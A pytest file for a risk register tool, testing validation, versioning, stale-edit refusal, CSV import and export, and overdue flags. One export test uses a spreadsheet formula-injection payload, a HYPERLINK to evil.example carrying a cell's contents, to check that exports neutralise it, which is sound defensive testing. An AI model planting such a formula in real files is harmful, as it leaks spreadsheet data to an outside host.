"""The risk register on a real SQLite file and a real PostgreSQL database: validation
against the catalogue with every problem located, versions with who and when, stale edits
refused, CSV import all or nothing, the overdue flag, sorting and filtering, the CSV
export neutralised against formulas, and the sample register."""

from __future__ import annotations

import threading
from datetime import date

import pandas as pd
import pytest
from sqlalchemy import select

from kpis import sample, store
from kpis.errors import PROBLEM_COLUMNS
from kpis.governance import risks
from tests.coded import coded_catalogue

HEADER = ",".join(risks.RISK_COLUMNS)

HOME_CARE = risks.Risk(
    programme="Home Care",
    description="Risk that the home care market cannot keep pace with demand.",
    rank="Moderate",
    owner="CP",
    mitigation="Annual re-opening of the framework.",
    status="open",
    workstream="market",
    indicators=("home_care_hours_per_week", "non_framework_home_care"),
    next_review=date(2021, 1, 15),
)
DISCHARGE = risks.Risk(
    programme="Hospital Discharge",
    description="Risks of implementing the new Discharge Model.",
    rank="High",
    owner="DC",
    workstream="integrated_care",
    indicators=("mofd_bed_occupancy",),
    next_review=date(2020, 11, 20),
)


def csv_bytes(*rows: str, header: str = HEADER, newline: str = "\n") -> bytes:
    return newline.join([header, *rows, ""]).encode("utf-8")


def stored_rows(engine) -> pd.DataFrame:
    with engine.connect() as conn:
        return pd.DataFrame(conn.execute(select(store.risk_versions).order_by(store.risk_versions.c.id)).fetchall())


LOCATED = ["row", "column", "value", "problem", "hint"]  # of PROBLEM_COLUMNS; the code and file are checked apart


def problems_of(refused: pytest.ExceptionInfo) -> list[tuple]:
    assert set(refused.value.problems.columns) == set(PROBLEM_COLUMNS)
    return [tuple(p) for p in refused.value.problems[LOCATED].itertuples(index=False)]


# Validation -----------------------------------------------------------------------------


VALID = {
    "programme": " Home Care ",
    "description": "Risk that the home care market cannot keep pace with demand.\r\n",
    "rank": "Moderate",
    "owner": "CP",
    "mitigation": "Annual re-opening of the framework.",
    "status": "open",
    "workstream": "market",
    "indicators": "home_care_hours_per_week; non_framework_home_care",
    "next_review": "2021-01-15",
}


def test_a_valid_form_makes_the_risk(catalogue):
    assert risks.validate_risk(VALID, catalogue) == HOME_CARE


@pytest.mark.parametrize(
    ("field", "written", "stored"),
    [
        ("rank", "V High", "V High"),
        ("rank", "Very High", "V High"),
        ("rank", "v. high", "V High"),
        ("rank", "VHIGH", "V High"),
        ("rank", " high ", "High"),
        ("rank", "LOW", "Low"),
        ("owner", "cp", "CP"),
        ("owner", "Associate Director, Integrated Care", "DC"),
        ("owner", "associate director, integrated care", "DC"),
        ("status", "Closed", "closed"),
        ("status", "", "open"),
        ("workstream", "", ""),
        ("workstream", "Market", "market"),
        ("indicators", "iapt_access,IAPT_RECOVERY; iapt_access;", ("iapt_access", "iapt_recovery")),
        ("indicators", ["iapt_access", "iapt_recovery"], ("iapt_access", "iapt_recovery")),
        ("indicators", "", ()),
        ("next_review", "31/01/2021", date(2021, 1, 31)),
        ("next_review", "1/2/2021", date(2021, 2, 1)),
        ("next_review", date(2021, 3, 31), date(2021, 3, 31)),
        ("next_review", "", None),
        ("programme", "", ""),
    ],
)
def test_fields_are_read_as_the_board_writes_them(catalogue, field, written, stored):
    assert getattr(risks.validate_risk({**VALID, field: written}, catalogue), field) == stored


def test_every_problem_of_a_form_is_reported_at_once(catalogue):
    form = {
        **VALID,
        "description": "  ",
        "rank": "Severe",
        "owner": "XY",
        "status": "pending",
        "workstream": "finance",
        "indicators": "iapt_acces; larc_uptake; beds",
        "next_review": "2021-02-30",
        "programme": "P" * 256,
    }
    with pytest.raises(risks.RiskError) as refused:
        risks.validate_risk(form, catalogue)
    owners = "use the initials of one of the owners: SR, DC, CB, CA, CP ('owners' in the catalogue)"
    assert problems_of(refused) == [
        (0, "programme", "P" * 256, "the project or programme has 256 characters, more than 255", "shorten the project or programme"),
        (0, "description", "", "the description is blank", "describe the risk or issue: what may happen and its effect"),
        (0, "rank", "Severe", "is not a rank", "use one of V High, High, Moderate, Low"),
        (0, "owner", "XY", "is not an owner in the catalogue", owners),
        (0, "status", "pending", "is not a status", "use open or closed"),
        (0, "workstream", "finance", "is not a workstream id", "use one of integrated_care, prevention, safe_quality, market, or leave it blank"),
        (
            0,
            "indicators",
            "iapt_acces; larc_uptake; beds",
            "'iapt_acces', 'beds' are not indicator ids",
            "did you mean 'iapt_access' for 'iapt_acces'? use the ids of config/kpis.yaml, separated by ; (or leave it blank)",
        ),
        (0, "next_review", "2021-02-30", "is not a date in the calendar", "check the day and the month"),
    ]  # fmt: skip
    assert str(refused.value).splitlines()[:3] == [
        "risk: rejected, nothing was written (8 problem(s))",
        f"  column programme, value {'P' * 256!r}: the project or programme has 256 characters, more than 255."
        " Hint: shorten the project or programme",
        "  column description: the description is blank. Hint: describe the risk or issue: what may happen and its effect",
    ]


def test_a_blank_rank_and_owner_say_so(catalogue):
    with pytest.raises(risks.RiskError) as refused:
        risks.validate_risk({**VALID, "rank": "", "owner": "", "next_review": "next month"}, catalogue)
    assert [(p[1], p[3]) for p in problems_of(refused)] == [
        ("rank", "the rank is blank"),
        ("owner", "the owner is blank"),
        ("next_review", "is not a date"),
    ]
    assert problems_of(refused)[2][4] == "write the date as YYYY-MM-DD, for example 2021-01-31 (or leave it blank)"


# Saving ---------------------------------------------------------------------------------


def test_saving_keeps_every_version_with_who_and_when(engine):
    before = pd.Timestamp.now(tz="UTC")
    assert risks.save(engine, HOME_CARE, "ann") == (1, 1)
    assert risks.save(engine, DISCHARGE, "bob") == (2, 1)
    closed = risks.Risk(**{**HOME_CARE.__dict__, "status": "closed", "next_review": None})
    assert risks.save(engine, closed, "carol", risk_id=1, based_on=1) == (1, 2)
    after = pd.Timestamp.now(tz="UTC")
    history = risks.history(engine, 1)
    assert history.columns.tolist() == risks.REGISTER_COLUMNS
    assert history[["risk_id", "version", "status", "saved_by"]].values.tolist() == [
        [1, 2, "closed", "carol"],
        [1, 1, "open", "ann"],
    ]
    assert history["next_review"].tolist()[1] == pd.Timestamp("2021-01-15")
    assert pd.isna(history["next_review"].iloc[0])
    assert before <= history["saved_at"].iloc[1] <= history["saved_at"].iloc[0] <= after
    current = risks.current(engine)
    assert current.columns.tolist() == risks.REGISTER_COLUMNS
    assert current.drop(columns=["saved_at"]).to_dict("records") == [
        {
            "risk_id": 1,
            "programme": "Home Care",
            "description": "Risk that the home care market cannot keep pace with demand.",
            "rank": "Moderate",
            "owner": "CP",
            "mitigation": "Annual re-opening of the framework.",
            "status": "closed",
            "workstream": "market",
            "indicators": "home_care_hours_per_week; non_framework_home_care",
            "next_review": pd.NaT,
            "version": 2,
            "saved_by": "carol",
        },
        {
            "risk_id": 2,
            "programme": "Hospital Discharge",
            "description": "Risks of implementing the new Discharge Model.",
            "rank": "High",
            "owner": "DC",
            "mitigation": "",
            "status": "open",
            "workstream": "integrated_care",
            "indicators": "mofd_bed_occupancy",
            "next_review": pd.Timestamp("2020-11-20"),
            "version": 1,
            "saved_by": "bob",
        },
    ]
    stored = stored_rows(engine)
    assert stored[["programme", "workstream", "indicators"]].values.tolist()[1] == [
        "Hospital Discharge",
        "integrated_care",
        "mofd_bed_occupancy",
    ]


def test_a_row_of_the_register_validates_back_to_its_risk(engine, catalogue):
    """An edit form starts from the register's row: unchanged, it is the same risk."""
    risks.save(engine, HOME_CARE, "ann")
    risks.save(engine, risks.Risk(**{**DISCHARGE.__dict__, "next_review": None}), "ann")
    rows = risks.current(engine).to_dict("records")
    assert risks.validate_risk(rows[0], catalogue) == HOME_CARE
    assert risks.validate_risk(rows[1], catalogue).next_review is None


def test_an_unchanged_risk_writes_no_new_version(engine):
    risks.save(engine, HOME_CARE, "ann")
    assert risks.save(engine, HOME_CARE, "bob", risk_id=1, based_on=1) == (1, 1)
    assert risks.save(engine, HOME_CARE, "bob", risk_id=1) == (1, 1)
    assert risks.history(engine, 1)["saved_by"].tolist() == ["ann"]


def test_a_stale_edit_is_refused_and_nothing_is_written(engine):
    risks.save(engine, HOME_CARE, "ann")
    risks.save(engine, risks.Risk(**{**HOME_CARE.__dict__, "rank": "High"}), "ann", risk_id=1, based_on=1)
    saved_at = risks.history(engine, 1)["saved_at"].iloc[0].strftime("%d %b %Y %H:%M UTC")
    before = stored_rows(engine)
    with pytest.raises(risks.StaleEditError) as refused:
        risks.save(engine, risks.Risk(**{**HOME_CARE.__dict__, "rank": "Low"}), "bob", risk_id=1, based_on=1)
    assert str(refused.value) == (
        f"Risk 1: ann saved version 2 on {saved_at} after you started editing from version 1; nothing was"
        " written. Hint: reload to see their version, then make your changes to it again."
    )
    pd.testing.assert_frame_equal(stored_rows(engine), before)


def test_saving_a_risk_that_does_not_exist_is_refused(engine):
    with pytest.raises(risks.RiskError) as refused:
        risks.save(engine, HOME_CARE, "ann", risk_id=7)
    assert problems_of(refused) == [
        (
            0,
            "risk_id",
            "7",
            "there is no risk 7 in the register",
            "leave risk_id blank to add a new risk, or use the id of a risk in the register to update it",
        )
    ]
    assert stored_rows(engine).empty


def test_risks_saved_at_once_get_distinct_ids(engine):
    errors = []

    def add(k: int) -> None:
        try:
            risks.save(engine, risks.Risk(f"Risk number {k}.", "Low", "SR"), f"user{k}")
        except Exception as error:  # reported below: a thread's exception is otherwise lost
            errors.append(error)

    threads = [threading.Thread(target=add, args=(k,)) for k in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    current = risks.current(engine)
    assert current["risk_id"].tolist() == list(range(1, 9))
    assert sorted(current["description"]) == sorted(f"Risk number {k}." for k in range(8))


# Import ---------------------------------------------------------------------------------


def test_a_file_with_a_bom_crlf_and_line_breaks_in_cells_is_read(catalogue):
    content = b"\xef\xbb\xbf" + csv_bytes(
        ',Hospital Discharge,"Risks include:\r\n- capacity\r\n- quality",High,DC,,open,integrated_care,mofd_bed_occupancy,2020-11-20',
        ',Home Care,Market capacity.,moderate,"Associate Director, Procurement and Market Management",,,market,,',
        newline="\r\n",
    )
    imported = risks.read_csv(content, catalogue)
    assert imported == [
        risks.ImportedRisk(
            2,
            None,
            risks.Risk(
                programme="Hospital Discharge",
                description="Risks include:\n- capacity\n- quality",
                rank="High",
                owner="DC",
                workstream="integrated_care",
                indicators=("mofd_bed_occupancy",),
                next_review=date(2020, 11, 20),
            ),
        ),
        risks.ImportedRisk(
            3, None, risks.Risk(programme="Home Care", description="Market capacity.", rank="Moderate", owner="CP", workstream="market")
        ),
    ]  # fmt: skip


def test_a_file_with_problems_is_refused_whole_with_every_problem_located(engine, catalogue):
    risks.save(engine, HOME_CARE, "ann")
    content = csv_bytes(
        ",Discharge,A valid new risk.,High,DC,,open,integrated_care,,2021-01-31",
        ',Wheelchairs,"Prolonged waits,\nover two lines.",Severe,DC,,open,,,',  # row 3, over two lines of the file
        ",Placements,,Moderate,ZZ,,open,market,placements_via_team;days_to_placement,2021-13-01",
        "1,Home Care,An update of risk 1.,Low,CP,,closed,market,,",
        "abc,Make Care Safer,Mental health services.,Moderate,CA,,open,prevention,,",
    )
    with pytest.raises(risks.RiskError) as refused:
        risks.import_csv(engine, content, catalogue, "bob", "register.csv")
    assert problems_of(refused) == [
        (3, "rank", "Severe", "is not a rank", "use one of V High, High, Moderate, Low"),
        (4, "description", "", "the description is blank", "describe the risk or issue: what may happen and its effect"),
        (4, "owner", "ZZ", "is not an owner in the catalogue", "use the initials of one of the owners: SR, DC, CB, CA, CP ('owners' in the catalogue)"),
        (4, "indicators", "placements_via_team;days_to_placement", "'days_to_placement' is not an indicator id", "did you mean 'days_to_placement_home_care' for 'days_to_placement'? use the ids of config/kpis.yaml, separated by ; (or leave it blank)"),
        (4, "next_review", "2021-13-01", "is not a date in the calendar", "check the day and the month"),
        (6, "risk_id", "abc", "is not a risk id", "leave risk_id blank for a new risk, or write the number of a risk in the register"),
    ]  # fmt: skip
    assert str(refused.value).startswith(
        "register.csv: rejected, nothing was written (6 problem(s))\n  row 3, column rank"
    )
    assert risks.history(engine, 1)["version"].tolist() == [1]
    assert len(stored_rows(engine)) == 1


def test_an_unknown_risk_id_refuses_the_whole_file(engine, catalogue):
    risks.save(engine, HOME_CARE, "ann")
    content = csv_bytes(
        ",Discharge,A valid new risk.,High,DC,,open,integrated_care,,",
        "1,Home Care,An update of risk 1.,Low,CP,,closed,market,,",
        "9,Wheelchairs,Prolonged waits.,High,DC,,open,,,",
    )
    with pytest.raises(risks.RiskError) as refused:
        risks.import_csv(engine, content, catalogue, "bob")
    assert problems_of(refused) == [
        (
            4,
            "risk_id",
            "9",
            "there is no risk 9 in the register",
            "leave risk_id blank to add a new risk, or use the id of a risk in the register to update it",
        )
    ]
    assert len(stored_rows(engine)) == 1


def test_the_same_risk_twice_in_a_file_is_refused(catalogue):
    content = csv_bytes(
        "1,Home Care,First.,Low,CP,,open,,,",
        "1,Home Care,Second.,Low,CP,,open,,,",
    )
    with pytest.raises(risks.RiskError) as refused:
        risks.read_csv(content, catalogue)
    assert problems_of(refused) == [(3, "risk_id", "1", "risk 1 is on row 2 too", "keep one row per risk")]


def test_unknown_duplicate_and_missing_columns_are_located_in_the_header(catalogue):
    header = "risk_id,programme,description,rank,owners,mitigation,status,workstream,indicators,review,Rank"
    with pytest.raises(risks.RiskError) as refused:
        risks.read_csv(csv_bytes(",Home Care,Text,High,DC,,open,,,,", header=header), catalogue)
    columns = ", ".join(risks.RISK_COLUMNS)
    every = f"the header row must name every column: {columns} (a cell may be blank)"
    assert problems_of(refused) == [
        (1, "owners", "owners", "column 5 is not a risk register column", f"did you mean 'owner'? the columns are {columns}"),
        (1, "review", "review", "column 10 is not a risk register column", f"did you mean 'next_review'? the columns are {columns}"),
        (1, "Rank", "Rank", "this column appears twice", "keep one column of each name"),
        (1, "owner", "", "the column 'owner' is missing", every),
        (1, "next_review", "", "the column 'next_review' is missing", every),
    ]  # fmt: skip


def test_columns_in_another_order_and_trailing_empty_header_cells_are_read(catalogue):
    header = "description,rank,owner,risk_id,programme,mitigation,status,workstream,indicators,next_review,,"
    [imported] = risks.read_csv(csv_bytes("A risk.,Low,SR,,,,,,,,,", header=header), catalogue)
    assert imported == risks.ImportedRisk(2, None, risks.Risk("A risk.", "Low", "SR"))


def test_a_windows_1252_file_and_a_blank_first_row_are_read_as_extracts_are(catalogue):
    """The register is read by the extracts' reader: what an extract may be, it may be."""
    content = b"\r\n" + (HEADER + "\r\n,Caf\xe9,A risk.,Low,SR,,,,,\r\n").encode("latin-1")
    (imported,) = risks.read_csv(content, catalogue)
    assert (imported.row, imported.risk.programme, imported.risk.description) == (3, "Café", "A risk.")


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"", (0, "", "", "the file is empty", f"write a header row '{HEADER}' and one row per risk")),
        (HEADER.encode() + b"\n", (0, "", "", "the file has a header but no risks", "add one row per risk below the header")),
        (b"PK\x03\x04rest", (0, "", "", "this is an Excel workbook, not a CSV file", "in Excel use File > Save As > 'CSV UTF-8 (Comma delimited)', or load the workbook itself (named .xlsx)")),
        (HEADER.encode() + b"\n,Caf\xe9,A risk.,Low,SR,,,,,\n" + "Café\n".encode(), (0, "", "", "the file mixes UTF-8 and Windows-1252 text: line 2 is the first that is not UTF-8", "in Excel use File > Save As > 'CSV UTF-8 (Comma delimited)', so that every line is saved in one encoding")),
        (csv_bytes(",,A risk.,Low,SR,,,,,,extra"), (2, "", ",,A risk.,Low,SR,,,,,,extra", "this row has 11 cells, the header has 10", 'quote text that contains commas ("checked, revised"), or delete the cells after the last column')),
    ],
)  # fmt: skip
def test_file_level_problems(catalogue, content, problem):
    with pytest.raises(risks.RiskError) as refused:
        risks.read_csv(content, catalogue)
    assert problems_of(refused) == [problem]


def test_import_adds_updates_and_leaves_unchanged_risks(engine, catalogue):
    risks.save(engine, HOME_CARE, "ann")
    risks.save(engine, DISCHARGE, "ann")
    exported = risks.to_csv(risks.current(engine))
    assert risks.import_csv(engine, exported, catalogue, "bob") == risks.ImportResult(new=0, updated=0, unchanged=2)
    edited = exported.replace(b",High,DC,", b",V High,DC,") + b",Wheelchairs,Prolonged waits.,High,DC,,open,,,\r\n"
    result = risks.import_csv(engine, edited, catalogue, "bob")
    assert result == risks.ImportResult(new=1, updated=1, unchanged=1)
    assert result.message == "1 new, 1 updated, 1 unchanged"
    current = risks.current(engine)
    assert current[["risk_id", "rank", "version", "saved_by"]].values.tolist() == [
        [1, "Moderate", 1, "ann"],
        [2, "V High", 2, "bob"],
        [3, "High", 1, "bob"],
    ]
    assert len(set(current[current["saved_by"] == "bob"]["saved_at"])) == 1  # one import, one time


# The register ---------------------------------------------------------------------------


def frame(*rows: tuple) -> pd.DataFrame:
    """A register frame: (risk_id, rank, status, workstream, owner, next_review)."""
    out = pd.DataFrame(rows, columns=["risk_id", "rank", "status", "workstream", "owner", "next_review"])
    return out.assign(next_review=pd.to_datetime(out["next_review"]).astype("datetime64[s]"))


@pytest.mark.parametrize(
    ("status", "next_review", "expected"),
    [
        ("open", "2020-11-29", True),
        ("open", "2020-11-30", False),  # due today: not yet overdue
        ("open", "2020-12-01", False),
        ("open", None, False),  # no review date set
        ("closed", "2020-01-01", False),
    ],
)
def test_overdue_is_an_open_risk_past_its_review_date(status, next_review, expected):
    register = frame((1, "High", status, "market", "CP", next_review))
    assert risks.overdue(register, date(2020, 11, 30)).tolist() == [expected]


REGISTER = frame(
    (1, "Moderate", "open", "market", "CP", "2021-01-15"),
    (2, "High", "open", "integrated_care", "DC", "2020-11-20"),
    (3, "High", "open", "integrated_care", "DC", "2020-12-18"),
    (4, "Low", "closed", "safe_quality", "CB", "2020-10-01"),
    (5, "V High", "open", "", "SR", None),
    (6, "High", "open", "market", "CP", "2020-12-18"),
    (7, "Moderate", "open", "market", "CP", None),
)


@pytest.mark.parametrize(
    ("filters", "order"),
    [
        ({}, [5, 2, 3, 6, 1, 7, 4]),
        ({"status": "open"}, [5, 2, 3, 6, 1, 7]),
        ({"workstream": "market"}, [6, 1, 7]),
        ({"workstream": ["market", "integrated_care"], "rank": "High"}, [2, 3, 6]),
        ({"owner": "CP", "rank": ("Moderate", "Low")}, [1, 7]),
        ({"workstream": ""}, [5]),
        ({"owner": "CA"}, []),
    ],
)
def test_register_filters_and_sorts_by_severity_review_date_and_id(filters, order):
    register = risks.register(REGISTER, date(2020, 11, 30), **filters)
    assert register["risk_id"].tolist() == order
    assert register.columns.tolist() == [*REGISTER.columns, "overdue"]
    assert register.set_index("risk_id")["overdue"].to_dict() == {k: k == 2 for k in order}


# Export ---------------------------------------------------------------------------------


def test_to_csv_neutralises_formulas_and_imports_back_unchanged(engine, catalogue):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    risks.save(engine, risks.Risk(formula, "High", "DC", programme="@SUM(A1)", mitigation="-2+3"), "ann")
    exported = risks.to_csv(risks.current(engine))
    assert exported.startswith(b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n")
    assert exported.decode("utf-8-sig").splitlines()[1] == (
        '1,\'@SUM(A1),"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",High,DC,\'-2+3,open,,,'
    )
    assert risks.import_csv(engine, exported, catalogue, "bob") == risks.ImportResult(0, 0, 1)
    assert risks.current(engine)["description"].tolist() == [formula]


def test_to_csv_with_the_register_columns(engine):
    risks.save(engine, DISCHARGE, "ann")
    register = risks.register(risks.current(engine), date(2020, 11, 30))
    exported = risks.to_csv(register, [*risks.REGISTER_COLUMNS, "overdue"]).decode("utf-8-sig").splitlines()
    assert exported[0] == f"{HEADER},version,saved_by,saved_at,overdue"
    saved_at = register["saved_at"].iloc[0].strftime("%Y-%m-%d %H:%M:%S UTC")
    assert exported[1] == (
        "1,Hospital Discharge,Risks of implementing the new Discharge Model.,High,DC,,open,integrated_care,"
        f"mofd_bed_occupancy,2020-11-20,1,ann,{saved_at},True"
    )


# The sample -----------------------------------------------------------------------------


def test_the_sample_register_is_in_the_import_format_and_valid_against_the_catalogue(catalogue):
    content = sample.RISKS_FILE.read_bytes()
    assert content.decode("utf-8").splitlines()[0] == HEADER
    imported = risks.read_csv(content, catalogue)
    assert [(i.risk_id, i.risk.programme, i.risk.rank, i.risk.owner, i.risk.workstream) for i in imported] == [
        (None, "Home Care", "Moderate", "CP", "market"),
        (None, "Wheel Chair Service", "High", "DC", "integrated_care"),
        (None, "Hospital Discharge", "High", "DC", "integrated_care"),
        (None, "Make Care Safer", "Moderate", "CA", "prevention"),
        (None, "Reliance on temporary staff in the Placement Service", "Moderate", "CP", "market"),
        (None, "Looked After Children", "Low", "CB", "safe_quality"),
    ]
    assert {i.risk.status for i in imported} == {"open"}
    reviews = [i.risk.next_review for i in imported]
    assert min(reviews) < date(2020, 11, 30) and max(reviews) <= date(2021, 2, 28)


def test_the_sample_register_loads_once_and_shows_an_overdue_risk(engine, catalogue):
    assert sample.load_sample_risks(engine, catalogue) == risks.ImportResult(new=6, updated=0, unchanged=0)
    assert sample.load_sample_risks(engine, catalogue) == risks.ImportResult(0, 0, 0)  # never twice
    register = risks.register(risks.current(engine), date(2020, 11, 30))
    assert register["risk_id"].tolist() == [2, 3, 1, 4, 5, 6]
    assert register[register["overdue"]]["programme"].tolist() == ["Wheel Chair Service"]
    assert set(register["saved_by"]) == {sample.SAMPLE_USER}


def test_first_start_loads_the_sample_narrative_and_register_with_the_extracts(sqlite_url, catalogue):
    engine = store.connect(sqlite_url)
    try:
        results = sample.ensure_sample_loaded(engine, catalogue)
        assert [r.file_name for r in results] == [p.name for p in sample.sample_files()]
        assert len(risks.current(engine)) == 6
        assert sample.ensure_sample_loaded(engine, catalogue) == []
        assert len(risks.current(engine)) == 6
    finally:
        engine.dispose()


def test_linked_indicators_are_found_by_id_or_alias_in_any_case_and_kept_as_their_ids(tmp_path):
    catalogue = coded_catalogue(tmp_path)
    fields = {"description": "Overspend.", "rank": "High", "owner": "AB", "status": "open"}
    risk = risks.validate_risk(
        {**fields, "indicators": " fin-var; PHOF-2.22III ;A/B;UHS-IAPT-01, iapt-recovery"}, catalogue
    )
    assert risk.indicators == ("ASCOF 2A(1)", "PHOF-2.22iii", "a/b", "iapt-recovery")
    with pytest.raises(risks.RiskError) as refused:
        risks.validate_risk({**fields, "indicators": "PHOF 2.22ii; c.19"}, catalogue)
    assert [(p[1], p[3], p[4]) for p in problems_of(refused)] == [
        (
            "indicators",
            "'PHOF 2.22ii' is not an indicator id",
            "did you mean 'PHOF-2.22iii' for 'PHOF 2.22ii'? use the ids of config/kpis.yaml, separated by ; (or"
            " leave it blank)",
        )
    ]
